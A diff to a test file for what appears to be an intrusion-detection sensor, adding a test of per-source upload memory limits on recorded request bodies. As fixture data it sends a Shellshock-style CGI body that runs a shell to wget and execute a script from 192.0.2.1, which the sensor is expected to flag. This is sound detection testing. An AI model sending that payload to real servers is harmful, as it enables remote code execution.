@@ -18,10 +18,10 @@ import { runTool } from '../../helpers/net-tools.js';
 
 const MAX_HEAD = 8192;
 
-/** Sends BYTES on a fresh connection and resolves with what came back before the server closed (or 2 s). */
-function exchange(port: number, bytes: Buffer): Promise<string> {
+/** Sends BYTES on a fresh connection (from address FROM) and resolves with what came back before the server closed (or 2 s). */
+function exchange(port: number, bytes: Buffer, from?: string): Promise<string> {
   return new Promise((resolve) => {
-    const s = connect(port, '127.0.0.1');
+    const s = connect({ port, host: '127.0.0.1', ...(from ? { localAddress: from } : {}) });
     let got = '';
     const done = (): void => {
       clearTimeout(t);
@@ -227,6 +227,30 @@ test('bodies longer than the recorded 8 KB are parsed whole: a 60-call XML-RPC m
     const recorded = sensor.events.filter((e) => e.type === 'http.request').map((e) => e.payload as { body?: string; body_size: number });
     assert.deepEqual(recorded.map((r) => [r.body?.length, r.body_size]), [[MAX_RECORDED_BODY_BYTES, Buffer.byteLength(multicall)], [MAX_RECORDED_BODY_BYTES, form.length]]);
   } finally {
+    await sensor.close();
+  }
+});
+
+test('one source holding the upload memory does not cost another source its request body: recorded and inspected whole', { timeout: 30_000 }, async () => {
+  const { MAX_UPLOAD_MEMORY_BYTES, UploadBuffer } = await import('../../../src/sensors/runtime/capture.js');
+  const sensor = await inProcessSensor();
+  // Eight uploads of 16 MiB held open from 127.0.0.1 (as FTP STORs would be): the whole budget, were it not shared out.
+  const mib = Buffer.alloc(1024 * 1024, 0x5a);
+  const held = Array.from({ length: 8 }, () => new UploadBuffer(MAX_UPLOAD_MEMORY_BYTES / 8, '127.0.0.1'));
+  try {
+    for (const u of held) for (let i = 0; i < MAX_UPLOAD_MEMORY_BYTES / 8 / mib.length; i++) u.write(mib);
+    const body = 'x=() { :; }; /bin/sh -c "cd /tmp; wget -q http://192.0.2.1/a; sh a"';
+    for (const from of ['127.0.0.2', '127.0.0.1']) await exchange(sensor.port, post('/cgi-bin/test.cgi', body, 'application/x-www-form-urlencoded'), from);
+    const reqs = sensor.events.filter((e) => e.type === 'http.request').map((e) => { const p = e.payload as { body?: string; body_size: number; body_dropped?: boolean }; return [e.src_ip, p.body, p.body_size, p.body_dropped]; });
+    assert.deepEqual(reqs, [
+      ['127.0.0.2', body, body.length, undefined],
+      // The source that holds its share: the body is recorded as dropped, not as an empty one.
+      ['127.0.0.1', undefined, body.length, true],
+    ]);
+    const exploits = sensor.events.filter((e) => e.type === 'exploit.attempt').map((e) => [e.src_ip, (e.payload as { name: string }).name]);
+    assert.deepEqual(exploits, [['127.0.0.2', 'shellshock'], ['127.0.0.2', 'command-injection']]);
+  } finally {
+    for (const u of held) u.release();
     await sensor.close();
   }
 });
